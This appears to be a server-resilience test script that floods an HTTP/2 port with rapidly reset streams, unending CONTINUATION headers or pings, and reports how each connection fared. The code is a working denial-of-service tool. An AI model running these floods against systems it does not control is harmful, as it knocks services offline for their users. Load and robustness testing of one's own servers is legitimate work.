#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods a port with HTTP/2 streams that are reset at once, with a header without end, or with pings, without a token, and prints what
became of each connection.

usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart | --header | --pings] [--source ADDRESS]

Opens CONNECTIONS connections one after another, and tries to send STREAMS streams on each. A reset follows its call at once, or with
--apart when the call has been processed. With --header, each connection has one stream, whose header has STREAMS continuations of
16,000 bytes and does not end. With --pings, each connection has STREAMS pings and no stream. Prints, for each connection, how many of
them had been sent when the other side closed it, or `all` if it did not, or `stalled` if it neither took nor sent anything for 30 s. Ends
with status 1 if the first connection cannot be opened; 0 is printed for another one.
"""
import argparse
import pathlib
import socket
import ssl
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent / "adversary"))
import http2  # noqa: E402

BATCH = 50
TIMEOUT_S = 30


def connect(arguments):
    host, _, port = arguments.address.rpartition(":")
    source = (arguments.source, 0) if arguments.source else None
    connection = socket.create_connection((host, int(port)), timeout=TIMEOUT_S, source_address=source)
    if arguments.tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname=host)
    return connection


def read(connection):
    """Reads what has come. Raises ConnectionError if the other side has closed."""
    data = connection.recv(1 << 16)
    if not data:
        raise ConnectionError
    return data


def check_open(connection):
    """Reads what has come, without waiting. Raises ConnectionError if the other side has closed."""
    connection.setblocking(False)
    try:
        while True:
            read(connection)
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(TIMEOUT_S)


def await_answer(connection):
    """Waits until the other side has processed what was sent before a PING."""
    connection.sendall(http2.frame(http2.PING, 0, 0, bytes(8)))
    got = b""
    while http2.frame(http2.PING, 1, 0, bytes(8)) not in got:
        got = got[-16:] + read(connection)


def flood(arguments, connection):
    """Yields the number of streams that have been sent, after each batch."""
    block = http2.call(arguments.tls)
    for sent in range(0, arguments.streams, BATCH):
        numbers = range(2 * sent + 1, 2 * (sent + BATCH) + 1, 2)
        calls = [http2.frame(http2.HEADERS, http2.END_HEADERS, number, block) for number in numbers]
        resets = [http2.frame(http2.RST_STREAM, 0, number, http2.CANCEL) for number in numbers]
        if arguments.apart:
            connection.sendall(b"".join(calls))
            await_answer(connection)
            connection.sendall(b"".join(resets))
        else:
            connection.sendall(b"".join(call + reset for call, reset in zip(calls, resets)))
            check_open(connection)
        yield sent + BATCH


def flood_header(arguments, connection):
    """Yields the number of continuations that have been sent, after each."""
    connection.sendall(http2.frame(http2.HEADERS, 0, 1, http2.call(arguments.tls)))
    for sent in range(arguments.streams):
        connection.sendall(http2.frame(http2.CONTINUATION, 0, 1, http2.LONG_FIELD))
        yield sent + 1
        check_open(connection)


def flood_pings(arguments, connection):
    """Yields the number of pings that have been sent, after each batch."""
    for sent in range(0, arguments.streams, BATCH):
        connection.sendall(http2.frame(http2.PING, 0, 0, bytes(8)) * BATCH)
        check_open(connection)
        yield sent + BATCH


def run(arguments, connection):
    """Returns what became of a connection."""
    sent = 0
    try:
        with connection:
            connection.sendall(http2.PREFACE + http2.EMPTY_SETTINGS)
            attack = flood_header if arguments.header else flood_pings if arguments.pings else flood
            for sent in attack(arguments, connection):
                pass
        return "all"
    except TimeoutError:
        return "stalled"
    except OSError:
        return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("connections", type=int)
    parser.add_argument("streams", type=int)
    parser.add_argument("--apart", action="store_true")
    parser.add_argument("--header", action="store_true")
    parser.add_argument("--pings", action="store_true")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--source")
    arguments = parser.parse_args()
    for number in range(arguments.connections):
        try:
            connection = connect(arguments)
        except OSError as error:
            if number == 0:
                raise  # nobody listens, or the handshake of TLS fails: nothing has been tested
            print("stalled" if isinstance(error, TimeoutError) else 0, flush=True)
            continue
        print(run(arguments, connection), flush=True)


main()
